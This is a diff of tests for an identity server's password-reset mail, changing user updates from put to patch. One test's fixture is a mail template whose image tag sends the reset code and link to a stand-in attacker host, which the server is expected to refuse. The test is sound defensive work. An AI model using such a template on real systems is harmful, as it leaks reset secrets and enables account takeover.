@@ -81,7 +81,7 @@ test("a template that an older release saved with a code in an image's address l
   await mail.enable(realm);
   const user = await realm.user();
   const email = "leak@example.com";
-  await realm.asMaster().put(`/users/${user.userId}`, { username: user.username, email });
+  await realm.asMaster().patch(`/users/${user.userId}`, { email });
   const leaking = { ...reset, html: true, body: '<p>{{code}}</p><img src="https://evil.example/?c={{code}}&l={{link}}">' };
   expect(await realm.asMaster().put(templates, leaking)).toMatchObject({
     status: 400,
@@ -105,7 +105,7 @@ test("no event, and so no webhook, carries the link or the code of a mail", asyn
   await mail.enable(realm);
   const user = await realm.user();
   const email = "events@example.com";
-  await realm.asMaster().put(`/users/${user.userId}`, { username: user.username, email });
+  await realm.asMaster().patch(`/users/${user.userId}`, { email });
   const browser = iam.browser();
   const { page } = await walk(browser, iam.config.baseUrl, `/realms/${realm.name}/reset-password`);
   const waiting = await submit(browser, iam.config.baseUrl, page, { username: user.username });
